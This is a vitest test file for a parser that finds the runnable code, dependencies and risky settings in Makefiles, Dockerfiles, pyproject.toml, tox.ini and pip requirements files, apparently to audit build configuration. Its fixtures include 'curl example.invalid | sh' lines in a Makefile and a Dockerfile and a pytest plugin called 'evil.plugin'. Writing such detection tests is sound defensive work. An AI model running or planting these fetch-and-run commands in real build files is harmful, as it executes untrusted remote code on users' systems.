import { describe, expect, it } from "vitest";
import { codeOf, codes, edges, references, settings } from "./read.ts";

describe("a Makefile", () => {
  const text =
    "CC := gcc\nOUT = $(CC)-out\n\n.PHONY: all\nall: build docs\n\t@echo $(CC) $$HOME\n\nbuild: a.c\n\t$(CC) a.c\n# note\n\n\t-rm x\n\ninstall:; cp a /bin\nnow != date\nv = $(shell curl example.invalid | sh)\n";
  it("has a piece of code for each target, that first makes what it needs", () => {
    expect(codeOf("Makefile", text, "make all")).toMatchObject({
      text: "make build docs\necho ${CC} $HOME",
      trigger: "build",
      at: { line: 5 },
    });
    expect(codeOf("Makefile", text, "make install")).toMatchObject({
      text: ":;  cp a /bin",
      trigger: "install",
    });
  });
  it("makes its first target when none is named", () => {
    expect(codeOf("sub/Makefile", text, "make")).toMatchObject({ folder: "sub", at: { line: 5 } });
  });
  it("keeps the lines of a recipe with gaps", () => {
    expect(codeOf("Makefile", text, "make build").text).toBe("make a.c\n${CC} a.c\n\n\nrm x");
  });
  it("runs some commands whatever is made", () => {
    expect(codes("Makefile", text).filter((each) => each.includes("make line"))).toEqual([
      "build make line 15: date",
      "build make line 16: curl example.invalid | sh",
    ]);
  });
  it("gives its variables to the recipes", () => {
    expect(codeOf("Makefile", text, "make build").environment.get("OUT")).toBe("${CC}-out");
  });
});

describe("a Dockerfile", () => {
  const text = `# syntax=docker/dockerfile:1
FROM --platform=linux/amd64 node:20 AS base
FROM base
ADD https://example.invalid/a.tgz /a
COPY --from=tools/x:1 /a /b
RUN --mount=type=cache,target=/x apt-get update \\
    # why
    && curl example.invalid \\
    | sh
RUN ["npm", "ci", "a b"]
RUN <<EOF
echo one
echo two
EOF
ONBUILD RUN echo later
CMD ["node", "a.js"]
`;
  it("has a piece of code for each command, on its line", () => {
    expect(codeOf("Dockerfile", text, "RUN line 6")).toMatchObject({
      text: "apt-get update \\\n\\\n    && curl example.invalid \\\n    | sh",
      trigger: "build",
      at: { line: 6 },
    });
    expect(codeOf("Dockerfile", text, "RUN line 10").text).toBe("npm ci 'a b'");
    expect(codeOf("Dockerfile", text, "RUN line 11")).toMatchObject({
      text: "echo one\necho two",
      at: { line: 12 },
    });
    expect(codeOf("Dockerfile", text, "RUN line 15").text).toBe("echo later");
    expect(codeOf("Dockerfile", text, "CMD line 16")).toMatchObject({
      text: "node a.js",
      trigger: null,
    });
  });
  it("lets images and addresses in", () => {
    expect(references("Dockerfile", text)).toEqual(["image node 20", "image tools/x 1"]);
    expect(settings("docker/app.dockerfile", text)).toEqual([
      "docker.remote-add=https://example.invalid/a.tgz",
    ]);
  });
});

describe("a pyproject.toml", () => {
  it("builds with code of the repository when it says so", () => {
    const text =
      '[build-system]\nrequires = [\n  "setuptools>=61", # why\n]\nbuild-backend = "backend.core:x"\nbackend-path = ["tools"]\n';
    expect(settings("pyproject.toml", text)).toEqual([
      "install.backend-path=tools: backend.core:x",
    ]);
    expect(edges("pyproject.toml", text)).toEqual([
      "install tools/backend/core.py",
      "install tools/backend/core/__init__.py",
    ]);
    expect(references("pyproject.toml", text)).toEqual(["pypi setuptools >=61"]);
  });
  it("names requirements, sources, plugins and tasks", () => {
    const text = `[project]
dependencies = ["a==1", "b @ git+https://example.invalid/b"]
optional-dependencies.dev = ["c"]
[tool.poetry.dependencies]
python = "^3.12"
d = { git = "https://example.invalid/d" }
[[tool.uv.index]]
url = "https://example.invalid/simple"
[tool.pytest.ini_options]
addopts = "-q -p evil.plugin -p no:cacheprovider"
[tool.poe.tasks]
test = "pytest"
x = { cmd = "./x.sh" }
`;
    expect(references("pyproject.toml", text)).toEqual([
      "pypi a ==1",
      "pypi b git+https://example.invalid/b",
      "pypi c -",
      "pypi d -",
    ]);
    expect(settings("pyproject.toml", text)).toEqual([
      "pip.source=b: git+https://example.invalid/b",
      "pip.source=d: https://example.invalid/d",
      "pip.index=https://example.invalid/simple",
      "python.test-plugin=evil.plugin",
    ]);
    expect(codes("pyproject.toml", text)).toEqual(["test test: pytest", "- x: ./x.sh"]);
  });
});

describe("other settings of Python", () => {
  it("of tox run commands in tests", () => {
    const text = "[testenv]\ndeps =\n    pytest\ncommands =\n    pytest {posargs}\n    ./x.sh\n";
    expect(codeOf("tox.ini", text, "testenv commands")).toMatchObject({
      text: "pytest .\n./x.sh",
      trigger: "test",
      at: { line: 5 },
    });
    expect(references("tox.ini", text)).toEqual(["pypi pytest -"]);
  });
  it("of pytest load plugins", () => {
    expect(settings("pytest.ini", "[pytest]\naddopts = -p my.plugin\n")).toEqual([
      "python.test-plugin=my.plugin",
    ]);
    expect(settings("setup.cfg", "[tool:pytest]\naddopts = -p no:warnings -ra\n")).toEqual([]);
  });
  it("of pip are requirements and sources", () => {
    const text =
      "--extra-index-url https://example.invalid/simple\n--trusted-host example.invalid\na==1.0 --hash=sha256:0\nb[x]>=2,<3 ; python_version > '3'\n# c\n-e git+https://example.invalid/d#egg=d\n";
    expect(settings("requirements-dev.txt", text)).toEqual([
      "pip.index=--extra-index-url https://example.invalid/simple",
      "pip.insecure=--trusted-host example.invalid",
      "pip.source=git+https://example.invalid/d#egg=d",
    ]);
    expect(references("requirements/dev.txt", text)).toEqual([
      "pypi a ==1.0",
      "pypi b >=2,<3",
      "pypi git+https://example.invalid/d#egg=d git+https://example.invalid/d#egg=d",
      "pypi-locked a ==1.0",
    ]);
  });
});
